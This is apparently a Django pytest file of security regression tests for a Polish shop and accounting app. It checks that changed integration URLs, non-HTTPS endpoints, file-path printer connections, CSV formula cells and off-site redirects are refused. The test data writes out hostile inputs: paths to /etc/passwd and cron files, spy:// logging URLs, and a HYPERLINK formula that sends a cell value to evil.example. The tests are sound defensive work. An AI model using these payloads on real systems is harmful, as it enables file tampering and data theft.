"""Issue 12 point 6: each request here used to succeed and is now refused (or made harmless)."""

import csv
import io
from decimal import Decimal

import pytest
from django.core.management import CommandError, call_command
from django.test import RequestFactory
from django.urls import reverse

from accounting import services as accounting_services
from automation.models import AutomaticTask
from devices import services as device_services
from devices.escpos_print import PackingSlip
from devices.fake_printnode import FakePrintNode
from devices.models import Printer, PrintNodeAccount
from integrations.models import Integration
from tests.factories import OrderFactory, SeriesFactory

pytestmark = pytest.mark.django_db

KEY_AGAIN = "podaj ponownie klucz API"
HTTPS = "musi zaczynać się od https://"


# --- the key follows the URL ---------------------------------------------------------------------------------


def test_api_change_of_integration_url_without_the_key_is_refused_on_the_key_field(admin_api, infakt_integration):
    response = admin_api.patch(
        f"/api/integrations/{infakt_integration.pk}/",
        {"base_url": "https://inny-host.example.pl/api/v3"},
        format="json",
    )
    assert response.status_code == 400
    assert KEY_AGAIN in response.json()["api_key"][0]
    infakt_integration.refresh_from_db()
    assert infakt_integration.base_url != "https://inny-host.example.pl/api/v3"


def test_form_change_of_integration_url_without_the_key_is_refused_on_the_key_field(admin_client, infakt_integration):
    response = admin_client.post(
        reverse("integrations:edit", args=[infakt_integration.pk]),
        {"name": "Moje inFakt", "api_key": "", "environment": "custom", "custom_url": "https://inny.example.pl/api"},
    )
    assert response.status_code == 400
    assert KEY_AGAIN in str(response.context["form"].errors["api_key"])
    infakt_integration.refresh_from_db()
    assert "inny.example.pl" not in infakt_integration.base_url


def test_plain_http_to_a_remote_host_is_refused_for_an_integration(admin_api, admin_client):
    response = admin_api.post(
        "/api/integrations/",
        {
            "provider": "infakt",
            "name": "Po http",
            "base_url": "http://api.infakt.example.pl/api/v3",
            "api_key": "klucz-testowy-12345",
        },
        format="json",
    )
    assert response.status_code == 400 and HTTPS in response.json()["base_url"][0]
    page = admin_client.post(
        reverse("integrations:create"),
        {"name": "Po http", "api_key": "klucz-123456789", "environment": "custom", "custom_url": "http://evil.pl/x"},
    )
    assert page.status_code == 400 and HTTPS in str(page.context["form"].errors["custom_url"])
    assert not Integration.objects.exists()


def test_loopback_http_stays_allowed_for_local_fakes(infakt_integration, fake_infakt):
    assert infakt_integration.base_url.startswith("http://127.0.0.1:")


@pytest.fixture
def printnode(settings):
    fake = FakePrintNode()
    settings.PRINTNODE_API_URL = fake.start()
    yield fake
    fake.stop()


def test_printnode_url_change_needs_the_key_again_and_https(admin_client, printnode):
    device_services.printnode_connect(api_key=printnode.api_key)
    response = admin_client.post(
        reverse("devices:printnode"), {"api_key": "", "base_url": "https://printnode.evil.example"}, follow=True
    )
    assert KEY_AGAIN in response.content.decode()
    assert PrintNodeAccount.objects.get().base_url == ""
    response = admin_client.post(
        reverse("devices:printnode"),
        {"api_key": printnode.api_key, "base_url": "http://printnode.evil.example"},
        follow=True,
    )
    assert HTTPS in response.content.decode()
    assert PrintNodeAccount.objects.get().base_url == ""
    # the same URL again, without the key: fine
    admin_client.post(reverse("devices:printnode"), {"api_key": "", "base_url": ""})
    assert PrintNodeAccount.objects.get().state == "ok"


# --- printer connections -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("kind", "connection"),
    [
        ("escpos", "/etc/cron.d/apilo"),
        ("escpos", "file:///home/app/.bashrc"),
        ("escpos", "/dev/usb/../../etc/passwd"),
        ("escpos", "serial:/tmp/x"),
        ("posnet", "spy://192.168.1.5:6666?file=/tmp/log"),
        ("posnet", "spy:///dev/ttyUSB0?file=/etc/passwd"),
        ("posnet", "loop://"),
        ("posnet", "hwgrep://.*?file=/tmp/x"),
        ("posnet", "/tmp/fiskalna"),
        ("posnet", "socket://192.168.1.5:6666?file=/tmp/x"),
    ],
)
def test_printer_connection_outside_devices_and_network_is_refused(admin_api, kind, connection):
    response = admin_api.post("/api/printers/", {"kind": kind, "name": "Zła", "connection": connection}, format="json")
    assert response.status_code == 400 and "connection" in response.json()
    assert not Printer.objects.exists()


@pytest.mark.parametrize(
    ("kind", "connection"),
    [
        ("escpos", "/dev/usb/lp0"),
        ("escpos", "file:///dev/usb/lp1"),
        ("escpos", "socket://192.168.1.50:9100"),
        ("escpos", "usb://04b8:0202"),
        ("escpos", "serial:/dev/ttyUSB0?baudrate=19200"),
        ("posnet", "/dev/ttyUSB0"),
        ("posnet", "/dev/ttyACM1"),
        ("posnet", "socket://192.168.1.50:6666"),
        ("posnet", "rfc2217://192.168.1.50:2217"),
    ],
)
def test_printer_device_paths_and_network_connections_are_accepted(admin_api, kind, connection):
    response = admin_api.post(
        "/api/printers/", {"kind": kind, "name": "Dobra", "connection": connection}, format="json"
    )
    assert response.status_code == 201, response.json()


def test_printer_form_refuses_a_file_connection(admin_client):
    response = admin_client.post(
        reverse("devices:create"),
        {"kind": "escpos", "name": "Plik", "connection": "/var/www/index.html", "baudrate": 9600, "flow": "none"},
    )
    assert response.status_code == 400
    assert "tylko urządzenie drukarki" in str(response.context["form"].errors["connection"])
    assert not Printer.objects.exists()


def test_an_escpos_job_on_an_old_file_connection_fails_without_writing(tmp_path):
    target = tmp_path / "wstrzykniete.txt"
    printer = Printer.objects.create(kind="escpos", name="Stara", connection=str(target))
    job, _ = device_services.slip_enqueue(
        printer=printer,
        key="slip-1",
        slip=PackingSlip(order_number="AL1", customer="Jan"),
    )
    job = device_services.print_job_run(job_id=job.pk)
    assert job.state == "failed" and "tylko urządzenie drukarki" in job.error
    assert not target.exists()


# --- CSV ----------------------------------------------------------------------------------------------------


def test_csv_register_neutralises_formulas_and_keeps_negative_amounts_numeric(staff_client):
    SeriesFactory(kind="correction", number_format="FK/{nr}/{mm}/{rrrr}", is_default=True)
    order = OrderFactory(
        invoice_name='=HYPERLINK("http://evil.example/?"&A1;"klik")',
        invoice_company_name="",
        items=[{"name": "Kubek", "quantity": Decimal(1), "unit_price_gross": Decimal("123.00"), "vat_rate": "23"}],
    )
    invoice = accounting_services.document_issue(order=order, series=SeriesFactory())
    accounting_services.document_correct(document=invoice, changes=[], reason="Zwrot", full_return=True)
    response = staff_client.get(reverse("accounting:document_register"))
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert len(rows) == 2
    assert all(row["Nabywca"].startswith("'=HYPERLINK") for row in rows), [r["Nabywca"] for r in rows]
    correction = next(row for row in rows if row["Dokument korygowany"])
    assert correction["Razem brutto"] == "-123.00" and correction["Netto 23"] == "-100.00"


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+48 600 100 200", "'+48 600 100 200"),
        ("-cmd", "'-cmd"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-12.30", "-12.30"),
        (Decimal("-5.00"), Decimal("-5.00")),
        ("Jan Kowalski", "Jan Kowalski"),
        (None, ""),
    ],
)
def test_csv_cells(value, expected):
    from apilo.csv_export import safe_cell

    assert safe_cell(value) == expected


# --- redirects, demo data, schema, admin, proxy header ----------------------------------------------------------


def test_next_to_another_site_is_not_followed(admin_client):
    task = AutomaticTask.objects.create(name="Zadanie", event_type="order_created")
    for target in ("https://evil.example/", "//evil.example/", "javascript:alert(1)"):
        response = admin_client.post(reverse("automation:task_toggle", args=[task.pk]), {"next": target})
        assert response.status_code == 302 and response["Location"] == reverse("automation:task_list")
    local = reverse("automation:task_detail", args=[task.pk])
    response = admin_client.post(reverse("automation:task_toggle", args=[task.pk]), {"next": local})
    assert response["Location"] == local


def test_seed_demo_refuses_in_production_without_force(settings):
    settings.DEBUG = False
    with pytest.raises(CommandError, match="--force"):
        call_command("seed_demo", orders=1)
    from django.contrib.auth import get_user_model

    assert not get_user_model().objects.filter(username="admin").exists()


def test_schema_and_docs_need_a_role(nobody_user, staff_user):
    from django.test import Client

    nobody, staff = Client(), Client()
    nobody.force_login(nobody_user)
    staff.force_login(staff_user)
    assert nobody.get("/api/schema/").status_code == 403
    assert nobody.get("/api/docs/").status_code == 403
    assert staff.get("/api/schema/").status_code == 200
    assert staff.get("/api/docs/").status_code == 200


def test_django_admin_is_gone(admin_client, django_user_model):
    django_user_model.objects.create_superuser("root", "root@example.pl", "haslo-root-123")
    admin_client.login(username="root", password="haslo-root-123")
    assert admin_client.get("/django-admin/").status_code == 404
    from django.conf import settings

    assert "django.contrib.admin" not in settings.INSTALLED_APPS


def test_x_forwarded_proto_from_a_client_is_not_trusted_by_default():
    request = RequestFactory().get("/", HTTP_X_FORWARDED_PROTO="https")
    assert request.is_secure() is False


def test_x_forwarded_proto_is_trusted_when_the_operator_says_so():
    import os
    import subprocess
    import sys
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]
    code = "from django.conf import settings; print(getattr(settings, 'SECURE_PROXY_SSL_HEADER', None))"
    outputs = {}
    for flag in ("", "true"):
        env = {**os.environ, "DJANGO_SETTINGS_MODULE": "apilo.settings", "TRUST_X_FORWARDED_PROTO": flag}
        outputs[flag] = subprocess.run(
            [sys.executable, "-c", f"import django; django.setup(); {code}"],
            cwd=root,
            env=env,
            capture_output=True,
            text=True,
            check=True,
        ).stdout.strip()
    assert outputs[""] == "None"
    assert outputs["true"] == "('HTTP_X_FORWARDED_PROTO', 'https')"


def test_a_fiscal_printer_saved_with_spy_before_the_rule_is_never_opened(tmp_path):
    log = tmp_path / "spy.log"
    printer = Printer.objects.create(kind="posnet", name="Stara", connection=f"spy://127.0.0.1:1?file={log}")
    printer = device_services.printer_test(printer=printer)
    assert "spy://" in printer.last_status and not log.exists()


def test_printnode_api_url_change_needs_the_key_again_and_https(admin_api, staff_api, printnode):
    connected = admin_api.patch("/api/printnode/", {"api_key": printnode.api_key}, format="json")
    assert connected.status_code == 200 and connected.json()["state"] == "ok"
    assert printnode.api_key not in connected.content.decode() and connected.json()["api_key_last4"]
    moved = admin_api.patch("/api/printnode/", {"base_url": "https://printnode.evil.example"}, format="json")
    assert moved.status_code == 400 and KEY_AGAIN in moved.json()["api_key"][0]
    plain = admin_api.patch(
        "/api/printnode/", {"base_url": "http://printnode.evil.example", "api_key": printnode.api_key}, format="json"
    )
    assert plain.status_code == 400 and HTTPS in plain.json()["base_url"][0]
    assert PrintNodeAccount.objects.get().base_url == ""
    assert staff_api.get("/api/printnode/").status_code == 403


def test_a_key_with_non_ascii_characters_is_refused_on_the_key_field(admin_api, printnode):
    response = admin_api.patch("/api/printnode/", {"api_key": "klucz-ż-12345"}, format="json")
    assert response.status_code == 400 and "ASCII" in response.json()["api_key"][0]
    response = admin_api.post(
        "/api/integrations/",
        {"provider": "infakt", "name": "X", "base_url": "https://api.infakt.pl/api/v3", "api_key": "klucz\u00f5123456"},
        format="json",
    )
    assert response.status_code == 400 and "ASCII" in response.json()["api_key"][0]
